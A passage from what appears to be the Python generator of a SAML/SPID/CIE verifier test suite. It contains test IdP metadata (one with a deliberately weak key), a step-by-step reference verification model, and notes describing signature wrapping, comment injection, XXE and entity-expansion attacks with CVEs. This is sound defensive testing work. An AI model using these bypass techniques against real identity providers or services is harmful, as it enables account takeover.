    note = "<!-- Test metadata of idbridge's SAML vectors, generated by {}; unsigned on purpose: the verifier is configured with it. Test keys only. -->\n".format(
        GEN
    )
    e1 = spid_entity(SPID_IDP, [md_keydescriptor("signing", ["spid-idp"])], "idbridge test SPID IdP")
    out["idp.xml"] = (
        DECL + note + render(e1) + "\n",
        f'the SPID IdP `{SPID_IDP}`: one md:EntityDescriptor, IDPSSODescriptor (SAML 2.0) with one KeyDescriptor use="signing" holding certificate spid-idp (rsa2048), SingleSignOnService POST and Redirect, SingleLogoutService, NameIDFormat transient, the attributes it can release',
    )
    e2 = spid_entity(SPID_IDP2, [md_keydescriptor("signing", ["spid-idp2"])], "idbridge test SPID IdP 2")
    out["idp2.xml"] = (DECL + note + render(e2) + "\n", f"a second SPID IdP `{SPID_IDP2}`, same layout, certificate spid-idp2 (rsa4096)")
    reg = El(
        "md:EntitiesDescriptor",
        [
            ("xmlns:md", MD),
            ("xmlns:ds", DS),
            ("xmlns:saml", SAML),
            ("Name", "https://registry.idbridge.test/spid-entities-idps.xml"),
            ("ID", hid("md/registry")),
        ],
        [
            spid_entity(SPID_IDP, [md_keydescriptor("signing", ["spid-idp"])], "idbridge test SPID IdP", False),
            spid_entity(SPID_IDP2, [md_keydescriptor("signing", ["spid-idp2"])], "idbridge test SPID IdP 2", False),
        ],
    )
    out["registry.xml"] = (
        DECL + note + render(reg) + "\n",
        "an md:EntitiesDescriptor with both SPID IdPs (the entries of idp.xml and idp2.xml), as AgID's registry publishes them (unsigned here)",
    )
    e3 = spid_entity(SPID_IDP, [md_keydescriptor("signing", ["spid-idp2"]), md_keydescriptor(None, ["spid-idp"])], "idbridge test SPID IdP")
    out["idp-rollover.xml"] = (
        DECL + note + render(e3) + "\n",
        f'`{SPID_IDP}` during a key rollover: a KeyDescriptor use="signing" with the next key (spid-idp2, rsa4096) and a KeyDescriptor without `use` (usable for signing) with the current key (spid-idp, rsa2048)',
    )
    e4 = spid_entity(SPID_WEAK, [md_keydescriptor("signing", ["spid-weak"])], "idbridge test SPID IdP with a weak key")
    out["idp-weak.xml"] = (
        DECL + note + render(e4) + "\n",
        f"the IdP `{SPID_WEAK}` whose only signing certificate has a 1024-bit RSA key (spid-weak)",
    )
    out["cie-idp.xml"] = (
        DECL + note + cie_metadata() + "\n",
        f'the CIE IdP `{CIE_IDP}` as a Shibboleth IdP publishes it: IDPSSODescriptor with protocolSupportEnumeration listing SAML 1.1 and urn:mace:shibboleth:1.0 too, shibmd:Scope, KeyDescriptor use="signing" (cie-signing, rsa3072) and use="encryption" (cie-encryption, rsa4096), SingleSignOnService POST, POST-SimpleSign, Redirect and Shibboleth bindings, and an AttributeAuthorityDescriptor with its own signing key (cie-aa, rsa2048)',
    )
    return out


def cie_metadata():
    proto = "urn:oasis:names:tc:SAML:1.1:protocol urn:mace:shibboleth:1.0 " + SAMLP
    sso = "https://idserver.cie.idbridge.test/idp/profile"
    ext = El("md:Extensions", children=[El("shibmd:Scope", [("regexp", "false")], text="cie.idbridge.test")])
    idp = El(
        "md:IDPSSODescriptor",
        [("protocolSupportEnumeration", proto)],
        [
            ext,
            md_keydescriptor("signing", ["cie-signing"]),
            md_keydescriptor("encryption", ["cie-encryption"]),
            El("md:NameIDFormat", text=TRANSIENT),
            El(
                "md:SingleSignOnService",
                [("Binding", "urn:mace:shibboleth:1.0:profiles:AuthnRequest"), ("Location", sso + "/Shibboleth/SSO")],
            ),
            El("md:SingleSignOnService", [("Binding", POST), ("Location", sso + "/SAML2/POST/SSO")]),
            El(
                "md:SingleSignOnService",
                [
                    ("Binding", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST-SimpleSign"),
                    ("Location", sso + "/SAML2/POST-SimpleSign/SSO"),
                ],
            ),
            El("md:SingleSignOnService", [("Binding", REDIRECT), ("Location", sso + "/SAML2/Redirect/SSO")]),
        ],
    )
    aa = El(
        "md:AttributeAuthorityDescriptor",
        [("protocolSupportEnumeration", "urn:oasis:names:tc:SAML:1.1:protocol " + SAMLP)],
        [
            md_keydescriptor("signing", ["cie-aa"]),
            El(
                "md:AttributeService",
                [
                    ("Binding", "urn:oasis:names:tc:SAML:2.0:bindings:SOAP"),
                    ("Location", "https://idserver.cie.idbridge.test:8443/idp/profile/SAML2/SOAP/AttributeQuery"),
                ],
            ),
        ],
    )
    ed = El("md:EntityDescriptor", [("xmlns:md", MD), ("xmlns:ds", DS), ("xmlns:shibmd", SHIBMD), ("entityID", CIE_IDP)], [idp, aa])
    return render(ed)


def trusted_certs(path_bytes_list):
    """entityID -> list of signing certificate DERs, read from metadata bytes (IDPSSODescriptor, use signing or none)."""
    out = {}
    for data in path_bytes_list:
        root = parse(data)
        eds = [root] if local(root) == "EntityDescriptor" else [e for e in root.iter("{%s}EntityDescriptor" % MD)]
        for ed in eds:
            certs = []
            for idp in ed.findall("{%s}IDPSSODescriptor" % MD):
                if SAMLP not in (idp.get("protocolSupportEnumeration") or "").split():
                    continue
                for kd in idp.findall("{%s}KeyDescriptor" % MD):
                    if kd.get("use") not in (None, "signing"):
                        continue
                    for c in kd.iter("{%s}X509Certificate" % DS):
                        certs.append(base64.b64decode("".join(c.text.split())))
            if certs:
                out[ed.get("entityID")] = certs
    return out


# ------------------------------------------------------------------ the reference model (self-check)

WS = " \t\r\n"
ALLOWED_SM = {RSA_SHA256: hashes.SHA256, RSA_SHA384: hashes.SHA384, RSA_SHA512: hashes.SHA512}
ALLOWED_DM = {SHA256: "sha256", SHA384: "sha384", SHA512: "sha512"}
MAX_AGE = 300  # seconds: the default max IssueInstant age
DT = re.compile(r"^(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2}):(\d{2})(?:\.(\d+))?Z$")
B64_ALPHABET = re.compile(rb"^[A-Za-z0-9+/]*={0,2}$")


class Fail(Exception):
    def __init__(self, code, step, why):
        super().__init__(f"{code} at {step}: {why}")
        self.code, self.step, self.why = code, step, why


def saml_time(value):
    """Nanoseconds since the epoch of a strict xs:dateTime in UTC (`...Z`), or None."""
    m = DT.match(value.strip(WS))
    if not m:
        return None
    y, mo, d, h, mi, s, frac = m.groups()
    try:
        dt = datetime.datetime(int(y), int(mo), int(d), int(h), int(mi), int(s), tzinfo=datetime.timezone.utc)
    except ValueError:
        return None
    return int(dt.timestamp()) * 10**9 + int((frac or "0")[:9].ljust(9, "0"))


def is_(el, ns, name):
    return isinstance(el.tag, str) and el.tag == "{%s}%s" % (ns, name)


def elements(el):
    return [c for c in el if isinstance(c.tag, str)]


class Model:
    """The verification rules, step by step (S1-S11), on the exact bytes of a case."""

    def __init__(self, profile, trust, ctx):
        self.profile = profile
        self.trust = trust  # entityID -> [certificate DER]
        self.ctx = ctx
        self.now = saml_time(ctx["now"])
        self.skew = ctx.get("clock_skew_seconds", 0) * 10**9
        self.req_ii = saml_time(ctx["request_issue_instant"]) if ctx.get("request_issue_instant") else None
        self.signatures_checked = 0

    # -- helpers
    @staticmethod
    def fail(code, step, why):
        raise Fail(code, step, why)

    def text(self, el, step, code="saml.structure.invalid"):
        """Concatenated text and CDATA children; comments and PIs skipped; an element child is refused."""
        parts = [el.text or ""]
        for c in el:
            if isinstance(c.tag, str):
                self.fail(code, step, f"element inside {local(el)}")
            parts.append(c.tail or "")
        return "".join(parts)

    def attr(self, el, name, step):
        v = el.get(name)
        if v is None or v.strip(WS) == "":
            self.fail("saml.structure.invalid", step, f"{local(el)}/@{name} missing or empty")
        return v.strip(WS)

    def child(self, el, ns, name):
        for c in el:
            if is_(c, ns, name):
                return c
        return None

    def children(self, el, ns, name):
        return [c for c in el if is_(c, ns, name)]

    def issue_instant(self, el, step):
        v = self.attr(el, "IssueInstant", step)
        t = saml_time(v)
        if t is None:
            self.fail("saml.time.invalid", step, f"IssueInstant {v!r} is not xs:dateTime UTC")
        if t > self.now + self.skew:
            self.fail("saml.time.invalid", step, "IssueInstant after now")
        if self.req_ii is not None and t + self.skew < self.req_ii:
            self.fail("saml.time.invalid", step, "IssueInstant before the AuthnRequest's")
        if t + self.skew < self.now - MAX_AGE * 10**9:
            self.fail("saml.time.invalid", step, "IssueInstant older than the max age")

    def not_on_or_after(self, el, step):
        v = self.attr(el, "NotOnOrAfter", step)
        t = saml_time(v)
        if t is None:
            self.fail("saml.time.invalid", step, f"NotOnOrAfter {v!r} malformed")
        return t

    # -- signatures
    def verify_sig(self, root, target, keys, step):
        sigs = self.children(target, DS, "Signature")
        if not sigs:
            self.fail("xmldsig.signature.missing", step, f"{local(target)} has no Signature")
        if len(sigs) > 1:
            self.fail("xmldsig.signature.invalid", step, "several Signatures")
        s = sigs[0]
        kids = [local(c) for c in elements(s)]
        if kids not in (["SignedInfo", "SignatureValue"], ["SignedInfo", "SignatureValue", "KeyInfo"]):
            self.fail("xmldsig.signature.invalid", step, f"Signature children {kids}")
        si = elements(s)[0]
        sik = elements(si)
        if (
            len(sik) < 3
            or local(sik[0]) != "CanonicalizationMethod"
            or local(sik[1]) != "SignatureMethod"
            or any(local(r) != "Reference" for r in sik[2:])
        ):
            self.fail("xmldsig.signature.invalid", step, "SignedInfo layout")
        if sik[0].get("Algorithm") != EXC:
            self.fail("xmldsig.algorithm.forbidden", step, "c14n " + str(sik[0].get("Algorithm")))
        sm = sik[1].get("Algorithm")
        if sm not in ALLOWED_SM:
            self.fail("xmldsig.algorithm.forbidden", step, "signature method " + str(sm))
        refs = sik[2:]
        if len(refs) != 1:
            self.fail("xmldsig.reference.invalid", step, f"{len(refs)} References")
        ref = refs[0]
        tid = target.get("ID")
        if not tid:
            self.fail("xmldsig.reference.invalid", step, "signed element without ID")
        if ref.get("URI") != "#" + tid:
            self.fail("xmldsig.reference.invalid", step, f"URI {ref.get('URI')!r} is not #{tid}")
        if sum(1 for e in root.iter() if isinstance(e.tag, str) and e.get("ID") == tid) != 1:
            self.fail("xmldsig.reference.invalid", step, "ID not unique")
        rk = elements(ref)
        names = [local(c) for c in rk]
        if names == ["DigestMethod", "DigestValue"]:
            self.fail("xmldsig.transform.forbidden", step, "no Transforms")
        if names != ["Transforms", "DigestMethod", "DigestValue"]:
            self.fail("xmldsig.signature.invalid", step, "Reference layout")
        tr = elements(rk[0])
        if len(tr) != 2 or tr[0].get("Algorithm") != ENV or elements(tr[0]) or tr[1].get("Algorithm") != EXC:
            self.fail("xmldsig.transform.forbidden", step, "transforms " + str([t.get("Algorithm") for t in tr]))
        prefixes = []
        inc = elements(tr[1])
        if inc:
            if len(inc) != 1 or not is_(inc[0], EXC, "InclusiveNamespaces"):
                self.fail("xmldsig.signature.invalid", step, "exc-c14n transform content")
            prefixes = (inc[0].get("PrefixList") or "").split()
        dm = rk[1].get("Algorithm")
        if dm not in ALLOWED_DM:
            self.fail("xmldsig.algorithm.forbidden", step, "digest method " + str(dm))
        candidates = list(keys)
        ki = self.child(s, DS, "KeyInfo")
        if ki is not None:
            named = []
            for c in ki.iter("{%s}X509Certificate" % DS):
                der = base64.b64decode("".join((c.text or "").split()))
                if der not in keys:
                    self.fail("xmldsig.key.untrusted", step, "KeyInfo certificate not among the IdP's metadata signing certificates")
                named.append(der)
            if named:
                candidates = named
        # the digest over the target without this Signature
        path = []
        e = s
        while e is not root:
            path.append(e.getparent().index(e))
            e = e.getparent()
        tpath = []
        e = target
        while e is not root:
            tpath.append(e.getparent().index(e))
            e = e.getparent()
        root2 = copy.deepcopy(root)

        def walk(node, p):
            for i in reversed(p):
                node = node[i]
            return node

        s2, t2 = walk(root2, path), walk(root2, tpath)
        remove_keep_tail(s2)
        digest = hashlib.new(ALLOWED_DM[dm], c14n(t2, exclusive=True, with_comments=False, prefixes=prefixes)).digest()
        if digest != base64.b64decode("".join((rk[2].text or "").split())):
            self.fail("xmldsig.digest.mismatch", step, "digest")
        signed = c14n(si, exclusive=True, with_comments=False)
        value = base64.b64decode("".join((elements(s)[1].text or "").split()))
        for der in candidates:
            pub = x509.load_der_x509_certificate(der).public_key()
            if not isinstance(pub, rsa.RSAPublicKey) or pub.key_size < 2048:
                self.fail("crypto.key.unsupported", step, "trusted key below 2048 bits")
            try:
                pub.verify(value, signed, padding.PKCS1v15(), ALLOWED_SM[sm]())
                self.signatures_checked += 1
                return
            except Exception:
                pass
        self.fail("xmldsig.signature.invalid", step, "no trusted key verifies the signature")

    # -- the steps
    def run(self, raw):
        ctx = self.ctx
        # S1 input
        if ctx.get("input_encoding", "base64") == "base64":
            s = bytes(b for b in raw if b not in b" \t\r\n")
            if len(s) % 4 or not B64_ALPHABET.match(s):
                self.fail("input.encoding", "S1", "not standard padded base64")
            try:
                raw = base64.b64decode(s, validate=True)
            except Exception:
                self.fail("input.encoding", "S1", "not base64")
            if base64.b64encode(raw) != s:
                self.fail("input.encoding", "S1", "non-canonical trailing bits")
        if raw.startswith(b"\xef\xbb\xbf"):
            raw = raw[3:]
        try:
            raw.decode("utf-8")
        except UnicodeDecodeError:
            self.fail("input.encoding", "S1", "not UTF-8")
        # S2 xml
        try:
            root = etree.fromstring(raw, PARSER)
        except etree.XMLSyntaxError as e:
            if b"<!DOCTYPE" in raw:
                self.fail("xml.dtd.forbidden", "S2", "DOCTYPE")
            self.fail("xml.malformed", "S2", str(e))
        if root.getroottree().docinfo.doctype:
            self.fail("xml.dtd.forbidden", "S2", "DOCTYPE")
        # S3 envelope
        st = "S3"
        if not is_(root, SAMLP, "Response"):
            self.fail("saml.structure.invalid", st, "the root is not samlp:Response")
        if sum(1 for e in root.iter("{%s}Response" % SAMLP)) != 1:
            self.fail("saml.structure.invalid", st, "several samlp:Response elements")
        if (root.text or "").strip(WS) or any((c.tail or "").strip(WS) for c in root):
            self.fail("saml.structure.invalid", st, "text between Response children")
        kids = elements(root)
        i = 0
        for ns, name in ((SAML, "Issuer"), (DS, "Signature"), (SAMLP, "Extensions"), (SAMLP, "Status")):
            if i < len(kids) and is_(kids[i], ns, name):
                i += 1
        rest = kids[i:]
        for c in rest:
            if is_(c, SAML, "EncryptedAssertion"):
                self.fail("saml.structure.invalid", st, "EncryptedAssertion is not supported")
            if not is_(c, SAML, "Assertion"):
                self.fail("saml.structure.invalid", st, f"unexpected Response child {c.tag}")
        if len(rest) > 1:
            self.fail("saml.structure.invalid", st, "several Assertions")
        if sum(1 for e in root.iter("{%s}Assertion" % SAML)) != len(rest):
            self.fail("saml.structure.invalid", st, "an Assertion outside Response/Assertion")
        A = rest[0] if rest else None
        # S4 IdP selection
        hint = None
        for holder in (A, root):
            if holder is not None and hint is None:
                iss = self.child(holder, SAML, "Issuer")
                if iss is not None:
                    t = "".join([iss.text or ""] + [c.tail or "" for c in iss]).strip(WS)
                    hint = t or None
        if hint is None:
            self.fail("saml.issuer.invalid", "S4", "no Issuer")
        if hint not in self.trust:
            self.fail("saml.issuer.invalid", "S4", f"Issuer {hint!r} is not a trusted IdP")
        idp, keys = hint, self.trust[hint]
        # S5 Response signature
        if self.children(root, DS, "Signature"):
            self.verify_sig(root, root, keys, "S5")
        # S6 Response header
        st = "S6"
        v = self.attr(root, "Version", st)
        if v != "2.0":
            self.fail("saml.version.invalid", st, f"Version {v!r}")
        self.attr(root, "ID", st)
        self.issue_instant(root, st)
        if self.attr(root, "Destination", st) != ctx["acs_url"]:
            self.fail("saml.destination.mismatch", st, "Destination")
        if self.attr(root, "InResponseTo", st) != ctx["request_id"]:
            self.fail("saml.in_response_to.mismatch", st, "InResponseTo")
        iss = self.child(root, SAML, "Issuer")
        if iss is None:
            self.fail("saml.structure.invalid", st, "Response Issuer missing")
        t = self.text(iss, st).strip(WS)
        if not t:
            self.fail("saml.structure.invalid", st, "Response Issuer empty")
        f = iss.get("Format")
        if f is not None and f.strip(WS) != ENTITY:
            self.fail("saml.issuer.invalid", st, f"Response Issuer Format {f!r}")
        if t != idp:
            self.fail("saml.issuer.invalid", st, f"Response Issuer {t!r}")
        # S7 Status
        st = "S7"
        S = self.child(root, SAMLP, "Status")
        if S is None:
            self.fail("saml.structure.invalid", st, "Status missing")
        sk = elements(S)
        if not sk or not is_(sk[0], SAMLP, "StatusCode"):
            self.fail("saml.structure.invalid", st, "StatusCode missing")
        code = (sk[0].get("Value") or "").strip(WS)
        if not code:
            self.fail("saml.structure.invalid", st, "StatusCode Value missing or empty")
        if code != SUCCESS:
            sub = self.child(sk[0], SAMLP, "StatusCode")
            msg = self.child(S, SAMLP, "StatusMessage")
            m = self.text(msg, st).strip(WS) if msg is not None else None
            nr = re.match(r"^ErrorCode nr(\d+)", m) if m else None
            self.fail(
                "saml.status.failure",
                st,
                f"{code} / {sub.get('Value') if sub is not None else None} / {m!r} / spid_error={nr.group(1) if nr else None}",
            )
        # S8 Assertion presence
        if A is None:
            self.fail("saml.structure.invalid", "S8", "no Assertion")
        # S9 Assertion signature
        self.verify_sig(root, A, keys, "S9")
        # S10a Assertion header
        st = "S10a"
        v = self.attr(A, "Version", st)
        if v != "2.0":
            self.fail("saml.version.invalid", st, f"Assertion Version {v!r}")
        self.issue_instant(A, st)
        if self.child(A, SAML, "Advice") is not None:
            self.fail("saml.structure.invalid", st, "Advice must not be used")
        # S10b Assertion Issuer
        st = "S10b"
        ai = self.child(A, SAML, "Issuer")
        if ai is None:
            self.fail("saml.structure.invalid", st, "Assertion Issuer missing")
        t = self.text(ai, st).strip(WS)
        if not t:
            self.fail("saml.structure.invalid", st, "Assertion Issuer empty")
        if t != idp:
            self.fail("saml.issuer.invalid", st, "Assertion Issuer")
        f = ai.get("Format")
        if self.profile == "spid" and (f is None or f.strip(WS) != ENTITY):
            self.fail("saml.issuer.invalid", st, f"SPID Assertion Issuer Format {f!r}")
        if self.profile == "cie" and f is not None and f.strip(WS) != ENTITY:
            self.fail("saml.issuer.invalid", st, f"CIE Assertion Issuer Format {f!r}")
        # S10c Subject
        st = "S10c"
        sub = self.child(A, SAML, "Subject")
        if sub is None:
            self.fail("saml.structure.invalid", st, "Subject missing")
        nid = self.child(sub, SAML, "NameID")
        if nid is None:
            self.fail("saml.structure.invalid", st, "NameID missing")
        if not self.text(nid, st).strip(WS):
            self.fail("saml.structure.invalid", st, "NameID empty")
        f = self.attr(nid, "Format", st)
        if f != TRANSIENT:
            self.fail("saml.subject.invalid", st, f"NameID Format {f!r}")
        self.attr(nid, "NameQualifier", st)
        spnq = nid.get("SPNameQualifier")
        if spnq is not None and spnq.strip(WS) != ctx["sp_entity_id"]:
            self.fail("saml.subject.invalid", st, "SPNameQualifier")
        scs = self.children(sub, SAML, "SubjectConfirmation")
        if len(scs) != 1:
            self.fail("saml.structure.invalid", st, f"{len(scs)} SubjectConfirmation")
        m = self.attr(scs[0], "Method", st)
        if m != BEARER:
            self.fail("saml.subject.invalid", st, f"Method {m!r}")
        scd = self.child(scs[0], SAML, "SubjectConfirmationData")
        if scd is None:
            self.fail("saml.structure.invalid", st, "SubjectConfirmationData missing")
        if self.attr(scd, "Recipient", st) != ctx["acs_url"]:
            self.fail("saml.recipient.mismatch", st, "Recipient")
        na = self.not_on_or_after(scd, st)
        if not self.now - self.skew < na:
            self.fail("saml.time.expired", st, "SubjectConfirmationData NotOnOrAfter")
        if scd.get("NotBefore") is not None:
            nb = saml_time(scd.get("NotBefore"))
            if nb is None:
                self.fail("saml.time.invalid", st, "SubjectConfirmationData NotBefore malformed")
            if nb > self.now + self.skew:
                self.fail("saml.time.not_yet_valid", st, "SubjectConfirmationData NotBefore")
        if self.attr(scd, "InResponseTo", st) != ctx["request_id"]:
            self.fail("saml.in_response_to.mismatch", st, "SubjectConfirmationData InResponseTo")
        # S10d Conditions
        st = "S10d"
        C = self.child(A, SAML, "Conditions")
        if C is None:
            self.fail("saml.structure.invalid", st, "Conditions missing")
        nbv = self.attr(C, "NotBefore", st)
        nb = saml_time(nbv)
        if nb is None:
            self.fail("saml.time.invalid", st, "NotBefore malformed")
        na = self.not_on_or_after(C, st)
        if nb > self.now + self.skew:
            self.fail("saml.time.not_yet_valid", st, "NotBefore")
        if not self.now - self.skew < na:
            self.fail("saml.time.expired", st, "NotOnOrAfter")
        for c in elements(C):
            if not (is_(c, SAML, "AudienceRestriction") or is_(c, SAML, "OneTimeUse") or is_(c, SAML, "ProxyRestriction")):
                self.fail("saml.structure.invalid", st, f"unknown condition {c.tag}")
        ars = self.children(C, SAML, "AudienceRestriction")
        if not ars:
            self.fail("saml.structure.invalid", st, "no AudienceRestriction")
        for ar in ars:
            auds = self.children(ar, SAML, "Audience")
            if not auds:
                self.fail("saml.structure.invalid", st, "AudienceRestriction without Audience")
            vals = [self.text(a, st).strip(WS) for a in auds]
            if "" in vals:
                self.fail("saml.structure.invalid", st, "empty Audience")
            if ctx["sp_entity_id"] not in vals:
                self.fail("saml.audience.mismatch", st, f"Audiences {vals}")
        # S10e AuthnStatement
        st = "S10e"
        ass = self.children(A, SAML, "AuthnStatement")
        if len(ass) != 1:
            self.fail("saml.structure.invalid", st, f"{len(ass)} AuthnStatement")
        ain = self.attr(ass[0], "AuthnInstant", st)
        if saml_time(ain) is None:
            self.fail("saml.time.invalid", st, "AuthnInstant malformed")
        ac = self.child(ass[0], SAML, "AuthnContext")
        if ac is None:
            self.fail("saml.structure.invalid", st, "AuthnContext missing")
        cr = self.child(ac, SAML, "AuthnContextClassRef")
        if cr is None:
            self.fail("saml.structure.invalid", st, "AuthnContextClassRef missing")
        crv = self.text(cr, st).strip(WS)
        if not crv:
            self.fail("saml.structure.invalid", st, "AuthnContextClassRef empty")
        if crv not in LEVEL_URIS:
            self.fail("saml.authn_context.invalid", st, f"ClassRef {crv!r}")
        ret, req, cmp = LEVEL_URIS[crv], int(ctx["min_level"][-1]), ctx.get("comparison", "minimum")
        if not (ret > req or (ret == req and cmp != "better") or (ret < req and cmp == "maximum")):
            self.fail("saml.authn_context.insufficient", st, f"returned L{ret}, requested L{req} {cmp}")
        # S10f attributes
        st = "S10f"
        values = {}
        stmts = self.children(A, SAML, "AttributeStatement")
        if len(stmts) > 1:
            self.fail("saml.attribute.invalid", st, "several AttributeStatements")
        for stmt in stmts:
            attrs = self.children(stmt, SAML, "Attribute")
            if not attrs:
                self.fail("saml.attribute.invalid", st, "AttributeStatement without Attribute")
            for a in attrs:
                name = (a.get("Name") or "").strip(WS)
                if not name:
                    self.fail("saml.attribute.invalid", st, "Attribute without Name")
                vs = self.children(a, SAML, "AttributeValue")
                if len(vs) != 1:
                    self.fail("saml.attribute.invalid", st, f"{name}: {len(vs)} AttributeValues")
                if name in values:
                    self.fail("saml.attribute.invalid", st, f"{name} twice")
                values[name] = self.text(vs[0], st, "saml.attribute.invalid").strip(WS)
        # S11 identity
        st = "S11"
        ident = {"system": self.profile, "issuer": idp}
        fn = values.pop("fiscalNumber", None)
        if fn is not None:
            if not re.match(r"^TINIT-.+$", fn, re.S):
                self.fail("saml.attribute.invalid", st, f"fiscalNumber {fn!r}")
            ident["subject_id"] = fn
        for attr, field in (("name", "given_name"), ("familyName", "family_name")):
            v = values.pop(attr, None)
            if v is not None:
                if not v:
                    self.fail("saml.attribute.invalid", st, f"{attr} empty")
                ident[field] = v
        dob = values.pop("dateOfBirth", None)
        if dob is not None:
            ok = re.match(r"^\d{4}-\d{2}-\d{2}$", dob)
            try:
                datetime.date.fromisoformat(dob)
            except ValueError:
                ok = False
            if not ok:
                self.fail("saml.attribute.invalid", st, f"dateOfBirth {dob!r}")
            ident["birth_date"] = dob
        ident["level"] = crv.rsplit("/", 1)[1]
        ident["loa"] = LOA[ret]
        ident["authn_instant"] = ain
        ident["attributes"] = values
        return ident


# ------------------------------------------------------------------ notes (flags)

SOMOROVSKY = "https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky"
DUO = "https://duo.com/blog/duo-finds-saml-vulnerabilities-affecting-multiple-implementations"
RT = "https://github.com/italia/spid-regole-tecniche/blob/1e83863c/single-sign-on.rst"
SAML_CORE = "https://docs.oasis-open.org/security/saml/v2.0/saml-core-2.0-os.pdf"
CIE_DOCS = "https://docs.italia.it/italia/cie/cie-eid-saml-docs/it/versione-corrente/"

NOTES = {
    "SignatureWrapping": dict(
        bugType="AUTH_BYPASS",
        description="XML Signature Wrapping (XSW): a genuinely signed element is moved (into Extensions, a ds:Object, another Assertion, a wrapper Response) and an unsigned evil element takes its place. A verifier that checks 'some valid signature exists' and reads another element is bypassed. The Response must be the root and the only Response, the Assertion its only Assertion child, and each signature must be the child of the element it references.",
        cves=["CVE-2024-45409", "CVE-2020-5390", "CVE-2022-41912"],
        links=[SOMOROVSKY],
    ),
    "UnsignedAssertion": dict(
        bugType="AUTH_BYPASS",
        description="The Assertion carries no signature. SPID and CIE require it even when the Response is signed: accepting it lets anyone write any identity.",
        links=[RT],
    ),
    "UntrustedSigningKey": dict(
        bugType="AUTH_BYPASS",
        description="Signed by a key that is not a signing key of the IdP in the trusted metadata. With the signer's certificate in KeyInfo the verifier must answer xmldsig.key.untrusted without trusting KeyInfo; without KeyInfo it cannot tell a stranger's signature from a broken one: xmldsig.signature.invalid.",
        cves=["CVE-2021-21239"],
        links=["https://github.com/IdentityPython/pysaml2/security/advisories/GHSA-5p3x-r448-pc62"],
    ),
    "KeyInfoCertificateBytes": dict(
        bugType="EDGE_CASE",
        description="Decision of this suite: a KeyInfo X509Certificate whose bytes are not exactly one of the IdP's metadata signing certificates makes the signature xmldsig.key.untrusted, even when it carries a trusted public key (a renewed certificate) or when another KeyInfo certificate is trusted. A verifier that compares SubjectPublicKeyInfo instead would accept the renewal case: change these cases if that rule is adopted.",
    ),
    "MetadataKeyRole": dict(
        bugType="AUTH_BYPASS",
        description='Only the signing keys of the IdP\'s IDPSSODescriptor (KeyDescriptor use="signing" or without use) verify a Response: not an encryption key, not a key of another role descriptor (AttributeAuthorityDescriptor), not a key of another trusted IdP, never a key taken from the message.',
    ),
    "CrossIdpKey": dict(
        bugType="AUTH_BYPASS",
        description="Several IdPs are trusted; the Response names one IdP but is signed with another trusted IdP's key. The Issuer selects the only keys that may verify: any trusted key is not enough.",
    ),
    "IssuerSpoofing": dict(
        bugType="AUTH_BYPASS",
        description="The Issuer is missing, empty, wrong or not a trusted IdP, or its Format is not the entity format: the Response cannot be bound to the IdP whose key verified it.",
    ),
    "TamperedAfterSigning": dict(
        bugType="AUTH_BYPASS",
        description="A signed value was changed after signing: the digest (or the signature over SignedInfo) no longer matches.",
    ),
    "WeakAlgorithm": dict(
        bugType="WEAK_PARAMS",
        description="An algorithm or key size below the SPID floor (RSA >= 2048 with SHA-256 or better; exc-c14n without comments): rsa-sha1, sha1 digests, HMAC, inclusive or comment-keeping c14n, a 1024-bit key. The signature is otherwise correct, so only the allow-list refuses it.",
    ),
    "TransformChain": dict(
        bugType="CAN_OF_WORMS",
        description="The Reference transforms must be exactly enveloped-signature then exc-c14n (optional InclusiveNamespaces PrefixList). Anything else (missing, reordered, inclusive c14n, comments kept, XPath) is xmldsig.transform.forbidden.",
    ),
    "ReferenceConfusion": dict(
        bugType="AUTH_BYPASS",
        description="The Reference must be exactly '#' + the ID of the element that holds the Signature, and that ID must be unique in the document (SAML core 5.4.2). URI=\"\" (the whole document), another element's ID, a duplicated ID, a missing ID or two References are xmldsig.reference.invalid.",
    ),
    "CommentInjection": dict(
        bugType="PARSER_DIFFERENTIAL",
        description="A comment inserted into a signed text value after signing. exc-c14n without comments drops it, so the signature still verifies and the case is valid: the value must be read as the concatenation of all text nodes. A reader that takes the first text node only reads a truncated value (Duo Labs 2018: 'TINIT-<!---->ABC' read as 'TINIT-').",
        cves=["CVE-2017-11427", "CVE-2017-11428", "CVE-2017-11429", "CVE-2017-11430", "CVE-2018-0489"],
        links=[DUO],
    ),
    "TextForms": dict(
        bugType="PARSER_DIFFERENTIAL",
        description="Text written in forms the parser normalizes (CDATA sections, character references, CR LF line ends): c14n gives the same bytes, the signature verifies and the value read is the normalized one. A processing instruction, unlike a comment, is kept by c14n: inserting one after signing breaks the digest.",
    ),
    "DtdForbidden": dict(
        bugType="CAN_OF_WORMS",
        description="A DOCTYPE is refused outright (xml.dtd.forbidden), whatever it declares: internal entities change text without changing what c14n signs, external entities read files or the network (XXE), nested entities exhaust memory. The signatures in these cases are valid for the entity-expanded document.",
        links=["https://cwe.mitre.org/data/definitions/611.html"],
    ),
    "EntityExpansion": dict(
        bugType="RESOURCE_EXHAUSTION",
        description="Nested internal entities (billion laughs): refused at the DOCTYPE, before any expansion.",
        links=["https://cwe.mitre.org/data/definitions/776.html"],
    ),
    "MalformedXml": dict(bugType="BASIC", description="Not well-formed XML (truncated, undeclared prefix, two roots): xml.malformed."),
    "InputEncoding": dict(
        bugType="BASIC",
        description="The HTTP-POST binding carries the Response base64-encoded (SAMLResponse form field). Line breaks and spaces are dropped; then the standard alphabet with '=' padding and canonical trailing bits is required, and the result must be UTF-8.",
    ),
    "StrictEnvelope": dict(
        bugType="MISSING_CHECK",
        description="The Response content model is Issuer?, Signature?, Extensions?, Status, Assertion? in this order; anything else (an unknown child, text, a repeated element, a second Assertion, another root element) is saml.structure.invalid.",
    ),
    "EncryptedAssertion": dict(
        bugType="FUNCTIONALITY",
        description="saml:EncryptedAssertion is not supported by this verifier: refused with saml.structure.invalid and a clear reason (SPID and CIE IdPs send plain signed Assertions).",
    ),
    "MissingElement": dict(
        bugType="MISSING_PARAMETER",
        description="A required element or attribute is missing or empty: saml.structure.invalid, whatever the value-specific check would have said.",
    ),
    "ForeignOrUnsolicitedResponse": dict(
        bugType="MISSING_CHECK",
        description="InResponseTo names another AuthnRequest: an unsolicited or replayed Response (SPID forbids unsolicited Responses).",
    ),
    "WrongEndpoint": dict(
        bugType="MISSING_CHECK",
        description="Destination or Recipient names another endpoint (compared as exact strings after trimming): a Response minted for another ACS, replayed here.",
    ),
    "AudienceNotRestricted": dict(
        bugType="MISSING_CHECK",
